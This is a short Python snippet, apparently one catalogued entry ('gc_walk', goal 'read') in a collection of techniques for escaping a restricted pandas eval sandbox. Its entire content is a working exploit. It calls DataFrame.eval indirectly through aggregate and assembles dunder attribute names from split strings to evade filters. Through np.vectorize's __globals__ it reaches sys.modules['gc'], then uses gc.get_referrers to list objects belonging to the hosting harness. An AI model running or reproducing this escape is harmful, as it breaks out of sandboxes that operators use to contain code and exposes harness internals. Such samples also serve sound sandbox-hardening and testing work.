# class: gc_walk
# technique: gc reached as np.vectorize.__init__.__globals__['sys'].modules['gc'] in expression text; get_referrers of the DataFrame class lists the harness's holders (DataFrame.eval reached as [frame.aggregate][0]('eval', ...))
# goal: read
import numpy as np
import pandas as pd

frame = pd.DataFrame({"x": np.arange(2)})

def ev(expr, **names):
    return [frame.aggregate][0]("eval", 0, expr, local_dict=names)

u = "_" * 2

gcv = ev("@v[0]." + u + "init" + u + "." + u + "globals" + u + "['sys'].modules['gc']", v=[np.vectorize])
holders = gcv.get_referrers(pd.DataFrame)
df = pd.DataFrame({"holder": [repr(h)[:200] for h in holders]})
